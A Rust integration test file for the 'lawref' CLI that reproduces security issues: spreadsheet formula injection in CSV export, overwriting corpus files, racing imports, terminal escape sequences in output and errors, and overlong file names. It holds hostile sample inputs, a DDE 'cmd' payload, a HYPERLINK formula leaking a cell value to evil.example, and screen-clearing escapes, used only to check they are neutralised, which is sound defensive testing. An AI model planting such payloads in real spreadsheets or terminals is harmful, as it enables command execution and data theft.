//! Issue 28's attack repros (`../shared/cases/attack3/`, N-ids) on what lawref writes and prints:
//! exports safe to open in a spreadsheet (N39), one rule for every writer (N40, N115, N116, and
//! `build --out`), one writer of a corpus at a time (N120), standard output as it is when it is
//! no terminal (N45, N114) and clap's errors made safe on one (N98), the situation index as
//! corpus text (N113, N111, N118), commands that need no corpus (N55) and a document's name too
//! long for its report's (N107). Each is made here as its repro makes it, on a scratch copy of
//! the repository's corpus, through the `lawref` binary. (The XLIFF reader's are in
//! `attack.rs`; serve's in `serve.rs`.)

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{corpus_copy, lawref, lawref_on_a_terminal};

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The subject-index inputs of the repros, kept in `tests/fixtures/attack3/`.
fn input(name: &str) -> PathBuf {
    common::root().join("tests/fixtures/attack3").join(name)
}

/// Edits the corpus file `rel` of corpus `c`: `from` replaced by `to` once (which must be there).
fn patch(c: &Path, rel: &str, from: &str, to: &str) {
    let p = c.join(rel);
    let text = std::fs::read_to_string(&p).unwrap();
    assert!(text.contains(from), "{from:?} is not in {rel}");
    std::fs::write(&p, text.replacen(from, to, 1)).unwrap();
}

const PL68: &str = "translations/pl/2017/68.md";

/// `lawref export xliff` of Law 68, Polish to Dutch, 2017 (the repros' export).
const XLIFF_68: [&str; 10] = [
    "export",
    "xliff",
    "--law",
    "68",
    "--source",
    "pl",
    "--target",
    "nl",
    "--edition",
    "2017",
];

/// N39's patch (`csv-formula.py`): formulas at the start of Law 68's title and section A's title.
fn formulas(c: &Path) {
    patch(
        c,
        PL68,
        "title: Deklaracja lub zrzeczenie się lew",
        "title: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    );
    patch(
        c,
        PL68,
        "## A. Definicja deklaracji",
        "## A. =HYPERLINK(\"http://evil.example/?x=\"&C2,\"Kliknij\")",
    );
}

#[test]
fn n39_a_csv_cell_that_would_be_a_formula_is_written_as_text() {
    let c = corpus_copy();
    formulas(c.path());
    let o = lawref(
        c.path(),
        &["export", "csv", "--law", "68", "--columns", "pl:2017"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("clause,") || l.starts_with("68-title,") || l.starts_with("68A,"))
        .collect();
    assert_eq!(
        lines,
        [
            "clause,pl:2017",
            "68-title,'@SUM(1+1)*cmd|' /C calc'!A0",
            // The cell goes on: the section's paragraphs, a line each.
            "68A,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2,\"\"Kliknij\"\")",
        ]
    );
    // The site's download is the same writer's.
    let site = c.path().join("site");
    let o = lawref(c.path(), &["build", "--out", site.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = std::fs::read_to_string(site.join("2017/68/lawref-68-2017.csv")).unwrap();
    assert!(
        csv.lines()
            .any(|l| l.starts_with("68-title,") && l.contains(",'@SUM(1+1)")),
        "{csv}"
    );
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(
        !csv.contains(",@SUM") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
}

#[test]
fn n40_export_never_writes_into_the_corpus_nor_over_a_file_it_did_not_make() {
    let c = corpus_copy();
    let before = std::fs::read(c.path().join(PL68)).unwrap();
    let xliff = |out: &Path, extra: &[&str]| {
        let mut args = XLIFF_68.to_vec();
        args.push("--out");
        args.push(out.to_str().unwrap());
        args.extend_from_slice(extra);
        lawref(c.path(), &args)
    };
    // The law text being exported, with --replace too: refused, the text as it was.
    for extra in [&[][..], &["--replace"]] {
        let o = xliff(&c.path().join(PL68), extra);
        assert!(!o.status.success());
        assert!(
            stderr(&o).contains(&format!(
                "--out {}: that is inside the corpus's translations/ folder, whose files lawref writes only by the commands that make them; name a file outside it",
                c.path().join(PL68).display()
            )),
            "{}",
            stderr(&o)
        );
        assert_eq!(std::fs::read(c.path().join(PL68)).unwrap(), before);
    }
    // An edition manifest, through a path with `..` in it: refused.
    let o = xliff(&c.path().join("translations/../laws/2017.yaml"), &[]);
    assert!(
        stderr(&o).contains("inside the corpus's laws/ folder"),
        "{}",
        stderr(&o)
    );
    // A file it did not make (a translator's work) is kept without --replace; the same bytes
    // again are no change; --replace writes over it.
    let work = tempfile::tempdir().unwrap();
    let f = work.path().join("68.xlf");
    std::fs::write(&f, "translated by hand").unwrap();
    let o = xliff(&f, &[]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains(&format!(
            "--out {}: a file is there that is not what this command writes now (another file, or an earlier export a translator may have filled in); pass --replace to write over it, or name another file",
            f.display()
        )),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "translated by hand");
    assert!(xliff(&f, &["--replace"]).status.success());
    let exported = std::fs::read(&f).unwrap();
    assert!(exported.starts_with(b"<?xml"));
    assert!(xliff(&f, &[]).status.success(), "the same bytes again");
    assert_eq!(std::fs::read(&f).unwrap(), exported);
}

#[test]
fn n115_n116_import_index_writes_only_its_languages_index_and_never_over_a_curated_one() {
    let c = corpus_copy();
    let ru = c.path().join("translations/ru/index.yaml");
    let curated = std::fs::read(&ru).unwrap();
    let manifest = std::fs::read(c.path().join("laws/2017.yaml")).unwrap();
    let pl_index = std::fs::read(c.path().join("translations/pl/index.yaml")).unwrap();
    let run = |file: &str, out: &Path, extra: &[&str]| {
        let mut args = vec!["import-index"];
        let f = input(file);
        args.push(f.to_str().unwrap());
        args.extend_from_slice(&["--lang", "ru", "--edition", "2007", "--out"]);
        args.push(out.to_str().unwrap());
        args.extend_from_slice(extra);
        lawref(c.path(), &args)
    };
    // N115: a manifest, or another language's index, is no index of --lang: refused.
    for (out, folder) in [
        (c.path().join("laws/2017.yaml"), "laws"),
        (c.path().join("translations/pl/index.yaml"), "translations"),
    ] {
        let o = run("index-plain.txt", &out, &["--replace"]);
        assert!(!o.status.success());
        assert!(
            stderr(&o).contains(&format!(
                "that is inside the corpus's {folder}/ folder, whose files lawref writes only by the commands that make them (this command writes {} there)",
                c.path().join("translations/ru/index.yaml").display()
            )),
            "{}",
            stderr(&o)
        );
    }
    assert_eq!(
        std::fs::read(c.path().join("laws/2017.yaml")).unwrap(),
        manifest
    );
    assert_eq!(
        std::fs::read(c.path().join("translations/pl/index.yaml")).unwrap(),
        pl_index
    );
    // N116: an empty input reads no entry: an error, the curated index as it was.
    let o = run("index-empty.txt", &ru, &["--replace"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains(
            "index-empty.txt: no entry of a subject index was read (0 doubts, 0 pieces of residue): nothing written"
        ),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read(&ru).unwrap(), curated);
    // A curated index is replaced only with --replace.
    let o = run("index-plain.txt", &ru, &[]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("a file is there that is not what this command writes now (another file, or an earlier export a translator may have filled in); pass --replace"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read(&ru).unwrap(), curated);
    let o = run("index-plain.txt", &ru, &["--replace"]);
    assert!(o.status.success(), "{}", stderr(&o));
    // Imported from this document, it is this command's own: imported again without --replace.
    let o = run("index-plain.txt", &ru, &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    // Another document's index is not.
    let o = run("index-rlm.txt", &ru, &[]);
    assert!(!o.status.success(), "{}", stderr(&o));
}

#[test]
fn n120_two_imports_at_once_take_turns_and_never_both_write() {
    // Two different documents for one text (en 2017 70), imported at once into a fresh corpus,
    // over and over: one writes, the other is refused as "another document", every time. Without
    // the corpus's lock both could pass the check and the first text was lost (0 to 5 runs of
    // 30 on a 2-core machine). Bounded: 40 rounds, or 120 s.
    let a = common::root().join("tests/fixtures/attack/same-basename/a/law.txt");
    let b = common::root().join("tests/fixtures/attack/same-basename/c/law.txt");
    let started = std::time::Instant::now();
    let mut rounds = 0;
    while rounds < 40 && started.elapsed() < std::time::Duration::from_secs(120) {
        rounds += 1;
        let c = common::empty_corpus();
        let spawn = |doc: &Path| {
            std::process::Command::new(env!("CARGO_BIN_EXE_lawref"))
                .arg("--corpus")
                .arg(c.path())
                .arg("import")
                .arg(doc)
                .env("NO_COLOR", "1")
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (pa, pb) = (spawn(&a), spawn(&b));
        let (oa, ob) = (
            pa.wait_with_output().unwrap(),
            pb.wait_with_output().unwrap(),
        );
        let wrote = |o: &Output| stdout(o).contains("wrote translations/en/2017/70.md");
        assert!(
            wrote(&oa) != wrote(&ob),
            "round {rounds}: a: {}{}\nb: {}{}",
            stdout(&oa),
            stderr(&oa),
            stdout(&ob),
            stderr(&ob)
        );
        let (won, lost) = if wrote(&oa) { (&a, &ob) } else { (&b, &oa) };
        assert!(
            stderr(lost).contains("pass --replace to do so"),
            "{}",
            stderr(lost)
        );
        // The file is the winner's document's.
        let sha = lawref::import::sha256_hex(&std::fs::read(won).unwrap());
        let text = std::fs::read_to_string(c.path().join("translations/en/2017/70.md")).unwrap();
        assert!(text.contains(&format!("source_sha256: {sha}")), "{text}");
    }
    assert!(rounds >= 2);
}

#[test]
fn n113_a_control_character_in_a_subject_index_or_a_situation_index_is_an_error_at_its_place() {
    let c = corpus_copy();
    let ru = c.path().join("translations/ru/index.yaml");
    let f = input("index-esc.txt");
    let o = lawref(
        c.path(),
        &[
            "import-index",
            f.to_str().unwrap(),
            "--lang",
            "ru",
            "--edition",
            "2007",
            "--out",
            ru.to_str().unwrap(),
            "--replace",
        ],
    );
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains(&format!(
            "{}:1:7: control character U+001B (ESC) in the index: no book's index holds one",
            f.display()
        )),
        "{}",
        stderr(&o)
    );
    // Written by hand as a YAML escape, it is a load error at its place, and no site is built.
    let text = std::fs::read_to_string(&ru).unwrap();
    let first = text.lines().position(|l| l.contains("term:")).unwrap() + 1;
    let line = text.lines().nth(first - 1).unwrap();
    let col = line.find("term:").unwrap() + "term: ".len() + 1;
    let term = line.split_once("term:").unwrap().1.trim();
    std::fs::write(
        &ru,
        text.replacen(line, &line.replacen(term, "\"Ak\\e]0;PWNED\\a\"", 1), 1),
    )
    .unwrap();
    let site = c.path().join("site");
    let o = lawref(c.path(), &["build", "--out", site.to_str().unwrap()]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains(&format!(
            "translations/ru/index.yaml:{first}:{}: the escape \\e makes the control character U+001B (ESC)",
            col + 3
        )),
        "{}",
        stderr(&o)
    );
    assert!(!site.exists());
}

/// `lawref import-index FILE --lang ru --edition E` to standard output: (the index, the report).
fn read_index(file: &str, edition: &str) -> (String, String) {
    let c = corpus_copy();
    let f = input(file);
    let o = lawref(
        c.path(),
        &[
            "import-index",
            f.to_str().unwrap(),
            "--lang",
            "ru",
            "--edition",
            edition,
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    (stdout(&o), stderr(&o))
}

#[test]
fn n118_a_plain_list_is_read_as_entries_of_their_own_with_a_doubt_each() {
    let (yaml, report) = read_index("index-plain.txt", "2007");
    let body: Vec<&str> = yaml.lines().skip_while(|l| l.starts_with('#')).collect();
    assert_eq!(
        body,
        [
            "lang: ru",
            "entries:",
            "- term: Акцент",
            "  clauses:",
            "    '2007':",
            "    - '67'",
            "- term: Бета",
            "  clauses:",
            "    '2007':",
            "    - '68'",
            "- term: Гамма",
            "  clauses:",
            "    '2007':",
            "    - '69'",
        ]
    );
    let f = input("index-plain.txt");
    let f = f.display();
    assert_eq!(
        report.lines().collect::<Vec<_>>(),
        [
            format!(
                "{f}:3: doubt: \"Бета\" opens a line after the entry \"Акцент\", with no '=' and no indent: read as an entry of its own, not its subentry"
            ),
            format!(
                "{f}:5: doubt: \"Гамма\" opens a line after the entry \"Бета\", with no '=' and no indent: read as an entry of its own, not its subentry"
            ),
            format!("{f}: 3 entries (0 subentries), 0 residue, 2 doubts"),
        ]
    );
}

#[test]
fn n111_locators_that_are_no_clause_are_each_a_doubt_and_never_a_term() {
    let (yaml, report) = read_index("index-locators.txt", "1987");
    let body: Vec<&str> = yaml.lines().skip_while(|l| l.starts_with('#')).collect();
    assert_eq!(
        body,
        [
            "lang: ru",
            "entries:",
            "- term: Дефектная взятка",
            "  clauses:",
            "    '1987':",
            "    - '67'",
        ]
    );
    let f = input("index-locators.txt");
    let f = f.display();
    let doubt = |l: &str| {
        format!("{f}:1: doubt: \"Акцент\": locator {l:?} is no clause of the Laws (1–93): left out")
    };
    assert_eq!(
        report.lines().collect::<Vec<_>>(),
        [
            format!(
                "{f}:1: doubt: \"Акцент\" has no locator left that is a clause of the Laws: left out"
            ),
            doubt("-1"),
            doubt("0"),
            doubt("68.5"),
            doubt("94"),
            doubt("999"),
            doubt("99999999999999999999999"),
            // Its locators unread, "Акцент" may still have been a heading: a doubt too.
            format!(
                "{f}:3: doubt: \"Дефектная взятка\" opens a line after the entry \"Акцент\", with no '=' and no indent: read as an entry of its own, not its subentry"
            ),
            format!("{f}: 1 entries (0 subentries), 0 residue, 8 doubts"),
        ]
    );
}

/// N45's patch (`bidi-stdout.py`): a RIGHT-TO-LEFT MARK in 68B's title.
fn rlm(c: &Path) {
    patch(
        c,
        PL68,
        "## B. Definicja zrzeczenia",
        "## B. Definicja\u{200f} zrzeczenia",
    );
}

#[test]
fn n45_n114_standard_output_that_is_a_file_or_pipe_gets_the_text_as_it_is() {
    let c = corpus_copy();
    rlm(c.path());
    let args = ["export", "csv", "--law", "68", "--columns", "pl:2017"];
    // A pipe: the mark kept, the same bytes as --out.
    let o = lawref(c.path(), &args);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).contains("Definicja\u{200f} zrzeczenia"));
    assert!(!stdout(&o).contains('\u{FFFD}'));
    let out = tempfile::tempdir().unwrap();
    let f = out.path().join("68.csv");
    let mut with_out = args.to_vec();
    with_out.extend(["--out", f.to_str().unwrap()]);
    assert!(lawref(c.path(), &with_out).status.success());
    assert_eq!(std::fs::read(&f).unwrap(), o.stdout);
    // XLIFF too.
    let x = XLIFF_68;
    let o = lawref(c.path(), &x);
    let f = out.path().join("68.xlf");
    let mut with_out = x.to_vec();
    with_out.extend(["--out", f.to_str().unwrap()]);
    assert!(lawref(c.path(), &with_out).status.success());
    assert_eq!(std::fs::read(&f).unwrap(), o.stdout);
    assert!(stdout(&o).contains('\u{200f}'));
    // N114: import-index's index on standard output keeps the mark.
    let (yaml, _) = read_index("index-rlm.txt", "2007");
    assert!(yaml.contains("- term: Акцент\u{200f}"), "{yaml}");
    // On a terminal, the mark is shown as U+FFFD, never acted on.
    let (ok, seen) = lawref_on_a_terminal(c.path(), &args);
    assert!(ok, "{seen}");
    assert!(seen.contains("Definicja\u{FFFD} zrzeczenia"), "{seen}");
    assert!(!seen.contains('\u{200f}'));
}

#[test]
fn n98_a_usage_error_quoting_the_argument_shows_its_escapes_on_a_terminal() {
    let c = corpus_copy();
    let arg = "\u{1b}]0;PWNED\u{7}\u{1b}[2J2017";
    let (ok, seen) = lawref_on_a_terminal(c.path(), &["show", "68", "--edition", arg]);
    assert!(!ok);
    assert!(
        seen.contains("error: invalid value '␛]0;PWNED␇␛[2J2017' for '--edition <EDITION>'"),
        "{seen}"
    );
    assert!(
        !seen.contains('\u{1b}') && !seen.contains('\u{7}'),
        "{seen:?}"
    );
    // A clause lawref reads itself (show's words) is quoted as a Rust string.
    let (ok, seen) = lawref_on_a_terminal(c.path(), &["show", "\u{1b}[2J68"]);
    assert!(!ok);
    assert!(
        seen.contains("\"\\u{1b}[2J68\" is not a clause id"),
        "{seen}"
    );
    assert!(!seen.contains('\u{1b}'), "{seen:?}");
    // A clap error of its own kind (an unknown flag) too.
    let (ok, seen) = lawref_on_a_terminal(c.path(), &["search", "--\u{1b}[2Jx", "y"]);
    assert!(!ok);
    assert!(
        seen.contains("error: unexpected argument '--␛[2Jx' found"),
        "{seen}"
    );
    assert!(!seen.contains('\u{1b}'), "{seen:?}");
    // Help is still clap's.
    let o = lawref(c.path(), &["--help"]);
    assert!(o.status.success());
    assert!(stdout(&o).contains("Usage: lawref"));
}

#[test]
fn n55_commands_that_need_no_corpus_do_not_read_the_config_file() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join(".config/lawref");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("config.toml"), "corpos = \"x\"\n").unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_lawref"))
            .args(args)
            .env_remove("LAWREF_CORPUS")
            .env_remove("XDG_CONFIG_HOME")
            .env("HOME", home.path())
            .env("NO_COLOR", "1")
            .output()
            .unwrap()
    };
    for args in [&["completions", "bash"][..], &["man"], &["catalogs"]] {
        let o = run(args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
    }
    // A command that reads the corpus still says what is wrong with the file.
    let o = run(&["coverage"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("corpos"), "{}", stderr(&o));
}

#[test]
fn n107_a_document_name_too_long_for_a_report_name_gets_a_short_one() {
    let c = common::empty_corpus();
    let docs = tempfile::tempdir().unwrap();
    // 250 bytes: a legal name (Linux allows 255), 125 Cyrillic letters.
    let stem = "з".repeat(123);
    let name = format!("{stem}.txt");
    assert_eq!(name.len(), 250);
    let bytes = std::fs::read(common::root().join("tests/fixtures/attack/same-basename/a/law.txt"))
        .unwrap();
    std::fs::write(docs.path().join(&name), &bytes).unwrap();
    let o = lawref(
        c.path(),
        &["import", docs.path().join(&name).to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let sha = lawref::import::sha256_hex(&bytes);
    let report = format!(
        "import-report/{}….{}.report.txt",
        "з".repeat(58),
        &sha[..12]
    );
    assert!(
        stdout(&o).contains(&format!("wrote {report} (")),
        "{}",
        stdout(&o)
    );
    let text = std::fs::read_to_string(c.path().join(&report)).unwrap();
    // The report names the whole document.
    assert!(text.contains(&name), "{text}");
}

#[test]
fn build_out_is_never_inside_the_corpus_folders_and_report_never_over_another_file() {
    let c = corpus_copy();
    let o = lawref(
        c.path(),
        &[
            "build",
            "--out",
            c.path().join("translations/site").to_str().unwrap(),
        ],
    );
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("that is inside the corpus's translations/ folder"),
        "{}",
        stderr(&o)
    );
    assert!(!c.path().join("translations/site").exists());
    // `import --report` over a file that is no report of lawref's: kept without --replace.
    let notes = c.path().join("notes.json");
    std::fs::write(&notes, "{\"mine\": true}").unwrap();
    let doc = common::root().join("tests/fixtures/attack/same-basename/a/law.txt");
    let o = lawref(
        c.path(),
        &[
            "import",
            doc.to_str().unwrap(),
            "--report",
            notes.to_str().unwrap(),
        ],
    );
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("a file is there that is not what this command writes now (another file, or an earlier export a translator may have filled in); pass --replace"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "{\"mine\": true}");
    assert!(!c.path().join("translations/en").exists());
}
